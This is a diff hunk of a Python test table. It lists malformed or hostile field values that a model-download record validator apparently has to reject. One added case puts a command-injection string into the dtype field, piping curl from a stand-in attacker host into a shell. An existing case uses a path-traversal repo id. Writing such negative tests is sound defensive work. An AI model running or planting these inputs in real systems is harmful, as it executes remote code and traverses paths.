@@ -186,6 +186,8 @@ CHANGES: dict[str, tuple[tuple[str | int, ...], Any]] = {
     "a repo that is none": (("source",), {"kind": "hub", "repo_id": "../../x"}),
     "a text that is very long": (("verification", "method"), "x" * 3000),
     "no date": (("finished",), "yesterday"),
+    "a command for a dtype": (("plan", "dtype"), "fp16; curl evil.example | sh #"),
+    "a branch for a commit": (("source",), {"kind": "hub", "repo_id": "me/model", "revision": "main"}),
     "a shard that was not planned": (("plan", "shards", 0, "file"), "model-00009-of-00009.safetensors"),
     "fewer bytes than planned": (("plan", "total_bytes"), 7),
     "a shard with less than its tensors": (("shards", 0, "bytes"), 7),
